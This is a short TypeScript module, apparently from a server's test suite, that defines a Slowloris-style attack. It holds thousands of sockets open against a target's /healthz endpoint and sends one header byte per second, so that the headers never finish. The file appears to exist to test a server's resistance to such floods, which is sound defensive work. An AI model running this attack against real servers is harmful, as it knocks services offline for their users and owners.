import type { Attack } from '../../support/attacker.ts'
import { keepOpen, meanwhile } from '../../support/flooding.ts'

/** Requests whose headers arrive byte by byte and never end. */
export const attack: Attack = (target) =>
  keepOpen(target, { sockets: 3000, addresses: 100, perSecond: 800 }, (socket) => {
    socket.resume().write('GET /healthz HTTP/1.1\r\nhost: x\r\nx-slow: ')
    meanwhile(socket, 1000, () => socket.write('s'))
  })
